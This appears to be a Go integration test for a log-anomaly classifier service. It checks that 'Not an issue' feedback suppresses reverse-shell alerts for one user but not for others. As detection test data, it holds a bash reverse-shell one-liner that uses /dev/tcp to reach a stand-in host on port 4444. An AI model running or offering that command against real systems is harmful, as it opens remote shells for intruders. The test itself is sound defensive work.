//go:build integration

package service_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"go.uber.org/zap"
	"go.uber.org/zap/zaptest"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/logwarden/logwarden/pkg/kafkatest"
	"github.com/logwarden/logwarden/pkg/kafkax"
	"github.com/logwarden/logwarden/pkg/logwardenpb"
	"github.com/logwarden/logwarden/pkg/obs"
	"github.com/logwarden/logwarden/services/anomaly-classifier/internal/engine"
	"github.com/logwarden/logwarden/services/anomaly-classifier/internal/llm"
	"github.com/logwarden/logwarden/services/anomaly-classifier/internal/service"
)

func commandLine(at time.Time, ip, user, cmd string) string {
	return fmt.Sprintf("[%s] %s %s executed command '%s'", at.Format("02/Jan/2006 15:04:05"), ip, user, cmd)
}

func metricValue(addr, sample string) float64 {
	resp, err := http.Get("http://" + addr + "/metrics")
	if err != nil {
		return -1
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	m := regexp.MustCompile(`(?m)^` + regexp.QuoteMeta(sample) + ` (\S+)$`).FindSubmatch(b)
	if m == nil {
		return 0
	}
	v, _ := strconv.ParseFloat(string(m[1]), 64)
	return v
}

// readAll reads what topic holds (its records were written before the call).
func readAll(t *testing.T, cfg kafkax.Config, topic string) []kafkax.Message {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	msgs, err := kafkax.ReadTopicUntil(ctx, cfg, topic, func(kafkax.Message) bool { return false })
	if err != nil {
		t.Fatalf("read %s: %v", topic, err)
	}
	return msgs
}

// The classifier's side of "Not an issue", in-process on the real broker: a feedback
// record built from alice's reverse-shell alert (as the notifier builds it) makes the
// service stop alerting on alice running a command of that shape, while bob running
// the very same command still alerts, and carol (no feedback) alerts again as before.
func TestNotAnIssueStopsAlertingForThatUserAndShape(t *testing.T) {
	r := newRig(t)
	fbTopic := kafkatest.UniqueName("feedback")
	t.Cleanup(func() { _ = kafkatest.Admin(t, r.cfg).DeleteTopics(context.Background(), fbTopic) })
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	o := r.options(10)
	cfg := service.Config{Kafka: r.cfg, HTTP: obs.HTTPConfig{Addr: addr}, Consumer: o.Consumer, Writer: o.Writer, Topics: o.Topics, Partitions: 3,
		ReplicationFactor: 1, Engine: engine.DefaultConfig(), LLM: llm.DefaultConfig(), FeedbackTopic: fbTopic}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- service.Run(ctx, cfg, zaptest.NewLogger(t, zaptest.Level(zap.WarnLevel))) }()
	defer func() {
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
	}()

	t0 := time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)
	later := t0.Add(7 * time.Hour) // past the alert cooldown and any storm
	shell := func(ip string) string { return "bash -i >& /dev/tcp/" + ip + "/4444 0>&1" }
	produce(t, r.cfg,
		protoEvent(t, r.in, "alice-1", commandLine(t0, "10.0.0.5", "alice", shell("10.0.0.9")), "alice"),
		protoEvent(t, r.in, "carol-1", commandLine(t0, "10.0.0.7", "carol", shell("10.0.0.9")), "carol"))
	// A reverse shell fires more than one rule: one alert per rule, each its own message.
	verdicts(t, r.cfg, r.verdicts, 2)
	firstMsgs := readAll(t, r.cfg, r.alerts)
	byEntity := map[string][]*logwardenpb.Alert{}
	for _, m := range firstMsgs {
		a := &logwardenpb.Alert{}
		if err := proto.Unmarshal(m.Value, a); err != nil {
			t.Fatal(err)
		}
		byEntity[a.GetEntity()] = append(byEntity[a.GetEntity()], a)
	}
	rules := len(byEntity["carol"])
	if rules == 0 || len(byEntity["alice"]) != rules {
		t.Fatalf("first alerts: alice %d, carol %d; want the same rules for both", len(byEntity["alice"]), rules)
	}

	// What the notifier writes when someone presses "Not an issue" on each of alice's
	// alerts.
	now := time.Now()
	var fbs []kafkax.Message
	for i, alice := range byEntity["alice"] {
		fb := &logwardenpb.Feedback{Id: fmt.Sprint("fb-alice-", i), Kind: logwardenpb.FeedbackKind_FEEDBACK_KIND_NOT_AN_ISSUE, AlertId: alice.GetId(),
			Fingerprint: alice.GetFingerprint(), Detector: alice.GetFindings()[0].GetDetector(), RuleId: alice.GetFindings()[0].GetRuleId(),
			Entity: alice.GetEntity(), Event: alice.GetEvidence()[len(alice.GetEvidence())-1], CreatedBy: "@ops (U0OPS)",
			CreatedAt: timestamppb.New(now), ExpiresAt: timestamppb.New(now.Add(24 * time.Hour))}
		m, err := kafkax.NewProtoMessage(fbTopic, fb.GetRuleId()+"/"+fb.GetEntity(), fb.GetId(), fb)
		if err != nil {
			t.Fatal(err)
		}
		fbs = append(fbs, m)
	}
	produce(t, r.cfg, fbs...)
	deadline := time.Now().Add(30 * time.Second)
	for metricValue(addr, "logwarden_feedback_accepted") != float64(rules) {
		if time.Now().After(deadline) {
			t.Fatal("the feedback never took effect")
		}
		time.Sleep(20 * time.Millisecond)
	}

	produce(t, r.cfg,
		protoEvent(t, r.in, "alice-2", commandLine(later, "10.0.0.5", "alice", shell("192.168.7.7")), "alice"),
		protoEvent(t, r.in, "bob-1", commandLine(later, "10.0.0.6", "bob", shell("192.168.7.7")), "bob"),
		protoEvent(t, r.in, "carol-2", commandLine(later, "10.0.0.7", "carol", shell("192.168.7.7")), "carol"))
	vs := verdicts(t, r.cfg, r.verdicts, 5) // all five events classified: their alerts are written
	if !vs["alice-2"].GetAnomalous() {
		t.Fatalf("alice's second reverse shell not detected: %v", vs["alice-2"])
	}
	msgs := readAll(t, r.cfg, r.alerts)
	got := map[string]int{}
	for _, m := range msgs {
		a := &logwardenpb.Alert{}
		if err := proto.Unmarshal(m.Value, a); err != nil {
			t.Fatal(err)
		}
		for _, e := range a.GetEvidence() {
			if strings.Contains(e.GetRaw(), "192.168.7.7") {
				got[a.GetEntity()]++
			}
		}
	}
	if got["alice"] != 0 || got["bob"] != rules || got["carol"] != rules {
		t.Fatalf("alerts on the second commands by entity %v: want bob's and carol's (%d each), none of alice's", got, rules)
	}
	if metricValue(addr, `logwarden_alerts_suppressed_total{detector="rules"}`) != float64(rules) {
		t.Fatal("the suppressed alert was not counted")
	}
}
